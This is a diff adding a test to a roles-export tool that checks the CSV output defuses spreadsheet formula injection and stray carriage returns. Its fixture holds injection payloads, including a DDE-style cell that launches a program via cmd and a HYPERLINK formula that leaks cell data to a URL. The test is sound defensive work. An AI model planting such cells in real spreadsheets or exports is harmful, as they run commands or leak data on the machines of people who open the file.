@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shlex
 import shutil
@@ -128,6 +130,48 @@ def test_export_csv_is_one_row_per_role_and_responsibility(team):
         "hub-administrator,Hub Administrator,\n"
         "hub-engineer,Hub Engineer,\n"
     )
+
+
+FORMULAS = """\
+roles:
+  formula:
+    name: =HYPERLINK("https://example.org/?"&A1, "Click")
+    summary: A name a spreadsheet would run.
+    responsibilities:
+      - "+1+cmd|' /C calc'!A0"
+      - -2+3
+      - "@SUM(A1:A9)"
+      - "A - B = C, as written"
+      - "'quoted' already"
+"""
+
+
+def test_export_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
+    """CSV injection: a cell that starts with =, +, - or @ gets a leading ', so that a
+    spreadsheet reads it as text; other cells are as written."""
+    write_tree(tmp_path, {"roles.yaml": FORMULAS})
+    run = hubroles(tmp_path, "export", "--format", "csv")
+    assert run.returncode == 0
+    name = "'=HYPERLINK(\"https://example.org/?\"&A1, \"Click\")"
+    assert list(csv.reader(io.StringIO(run.stdout))) == [
+        ["role id", "role name", "responsibility"],
+        ["formula", name, "'+1+cmd|' /C calc'!A0"],
+        ["formula", name, "'-2+3"],
+        ["formula", name, "'@SUM(A1:A9)"],
+        ["formula", name, "A - B = C, as written"],
+        ["formula", name, "'quoted' already"],
+    ]
+    # A carriage return inside a cell is quoted, so that it cannot end the row early and start
+    # one with a formula (written to a file: standard output in text mode reads '\r' as '\n').
+    write_tree(tmp_path, {"roles.yaml": FORMULAS + '      - "Two\\rrows? =1+1"\n'})
+    assert hubroles(tmp_path, "export", "--format", "csv", "-o", "out.csv").returncode == 0
+    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))
+    assert rows[-1] == ["formula", name, "Two\rrows? =1+1"]
+    # JSON is data for programs, not spreadsheets: the text as written.
+    data = json.loads(hubroles(tmp_path, "export").stdout)
+    assert data["roles"]["formula"]["name"] == name[1:]
+    assert data["roles"]["formula"]["responsibilities"][1] == "-2+3"
 
 
 def test_export_dot_is_the_full_diagram_without_page_links(team):
